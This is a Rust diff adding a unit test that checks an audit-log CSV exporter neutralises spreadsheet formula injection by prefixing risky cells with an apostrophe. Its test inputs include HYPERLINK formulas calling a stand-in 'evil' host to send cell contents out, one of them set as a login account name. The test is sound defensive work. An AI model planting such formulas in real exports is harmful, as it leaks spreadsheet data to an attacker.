@@ -324,3 +324,35 @@ fn exported_lines_read_back() {
         assert_eq!(back.seq, 9);
     }
 }
+
+/// What an attacker chooses (a user name in a failed login, a reason) never reaches a CSV
+/// cell as a formula: the cell is written with an apostrophe before it; other cells as they are.
+#[test]
+fn csv_cells_are_never_formulas() {
+    use crate::csv::{COLUMNS, row, spreadsheet_safe};
+    for trigger in ["=", "+", "-", "@", "\t", "\r"] {
+        let v = format!("{trigger}HYPERLINK(\"http://evil/?\"&A1)");
+        assert_eq!(spreadsheet_safe(v.clone()), format!("'{v}"));
+    }
+    for plain in ["", "alice", "/in/=x.csv", "SSH-2.0-x", "'=already", "42"] {
+        assert_eq!(spreadsheet_safe(plain.into()), plain);
+    }
+    let mut e = context(EventKind::Auth {
+        method: "password".into(),
+        factor: Factor::First,
+        result: AuthResult::Refused,
+        reason: Some("-unknown account".into()),
+        credential: None,
+    });
+    e.account = Some("=HYPERLINK(\"http://evil\")".into());
+    let cells = row(&Exported {
+        seq: 1,
+        hash: "ab".repeat(32),
+        event: e,
+    });
+    let cell = |name: &str| &cells[COLUMNS.iter().position(|c| *c == name).unwrap()];
+    assert_eq!(cell("account"), "'=HYPERLINK(\"http://evil\")");
+    assert_eq!(cell("reason"), "'-unknown account");
+    assert_eq!(cell("method"), "password");
+    assert_eq!(cell("time"), "2027-01-15T08:00:00.123Z");
+}
